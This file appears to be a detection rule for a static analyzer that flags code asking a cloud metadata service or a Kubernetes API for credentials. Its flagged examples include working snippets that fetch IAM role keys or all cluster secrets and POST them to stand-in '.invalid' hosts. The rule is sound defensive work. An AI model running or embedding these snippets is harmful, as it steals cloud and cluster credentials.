import { defineRule, fixedTargetOf, sinkSays, split, step, stepsOf } from '../src/define.js';
import type { Call, FileContext, Label } from '../src/types.js';
import { METADATA_SERVICE } from '../src/vocabulary/services.js';

export default defineRule({
  meta: {
    summary: 'Asks the cloud’s metadata service, which hands out credentials',
    why: 'Any program on a cloud machine can ask this address for the machine’s own credentials, and worms do (2025). Libraries of cloud providers ask it as their purpose, with an interface of their own; the contact weighs what it does because so few others do.',
    behaviour: 'theft',
    messages: {
      asks: 'Asks the cloud’s metadata service with {sink}',
      sends: 'Asks the cloud for its credentials, and sends the answer to another machine with {sink}',
    },
    bits: { asks: 4, sends: 13.5 },
  },
  examples: {
    flags: [
      {
        title: 'credentials of a machine’s role are fetched',
        code: `fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then(r => r.text()).then(use);`,
      },
      {
        title: 'a token is asked for by name',
        code: `require('http').get({ host: 'metadata.google.internal', path: '/computeMetadata/v1/instance/service-accounts/default/token', headers: { 'Metadata-Flavor': 'Google' } }, use);`,
      },
      {
        title: 'what the service of a machine’s role answers is sent on',
        code: `(async () => {\n  const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';\n  const role = await (await fetch(base)).text();\n  const keys = await (await fetch(base + role)).text();\n  await fetch('https://region.castle.invalid/c', { method: 'POST', body: keys });\n})();`,
      },
      {
        title: 'all secrets of a cluster are asked for, and sent on',
        code: `const fs = require('fs'), https = require('https');\nconst token = fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');\nhttps.get({ host: 'kubernetes.default.svc', path: '/api/v1/secrets', headers: { authorization: 'Bearer ' + token } }, answer => {\n  let text = '';\n  answer.on('data', part => { text += part; });\n  answer.on('end', () => fetch('https://probe.castle.invalid', { method: 'POST', body: text }));\n});`,
      },
    ],
    passes: [
      {
        title: 'a probe asks a cluster how it is, and tells it',
        code: `const https = require('https');\nhttps.get({ host: 'kubernetes.default.svc', path: '/healthz' }, answer => answer.on('data', text => fetch('https://status.castle.invalid', { method: 'POST', body: String(text) })));`,
      },
      {
        title: 'requests to it are refused',
        code: `const BLOCKED = ['169.254.169.254', 'metadata.google.internal'];\nmodule.exports = url => {\n  if (BLOCKED.includes(new URL(url).hostname)) throw new Error('refused');\n  return fetch(url);\n};`,
      },
      {
        title: 'another address of the link is asked',
        code: `require('http').get('http://169.254.1.1/status', use);`,
      },
    ],
  },
  file(context) {
    const calls = context
      .calls('network')
      .map(call => ({ call, texts: call.args.flatMap(arg => context.textsWithin(arg)) }));
    const ofCloud = calls.filter(({ texts }) => texts.some(text => METADATA_SERVICE.test(text)));
    const ofCluster = calls.filter(({ texts }) => texts.some(isCluster) && texts.some(asksForSecrets));
    const asking = [...ofCloud, ...ofCluster].map(({ call }) => call);
    if (asking.length === 0) return;
    for (const call of context.calls('network')) {
      const answer = asking.includes(call) ? undefined : answerIn(context, call, asking);
      if (!answer || fixedTargetOf(context, call) === undefined) continue;
      context.report({
        messageId: 'sends',
        data: { sink: call.name },
        chain: [...stepsOf(answer), step('sink', sinkSays(call), context.file, call.node)],
      });
      return;
    }
    const [first] = ofCloud;
    if (!first) return;
    context.report({
      messageId: 'asks',
      data: { sink: first.call.name },
      chain: [step('sink', sinkSays(first.call), context.file, first.call.node)],
    });
  },
});

const isCluster = (text: string): boolean => /^(?:https:\/\/)?kubernetes\.default(?:\.svc)?\b/.test(text);
const asksForSecrets = (text: string): boolean => /\/api\/v1\/(?:\S{1,100}\/)?secrets\b/.test(text);

/** What the service answered, among what a call sends: who says who is asking with it is a client of the cloud. */
function answerIn(context: FileContext, call: Call, asking: readonly Call[]): Label | undefined {
  return split(context, call).labels.find(
    ({ kind, origin }) => kind === 'remote' && asking.some(({ node }) => node === origin.node),
  );
}
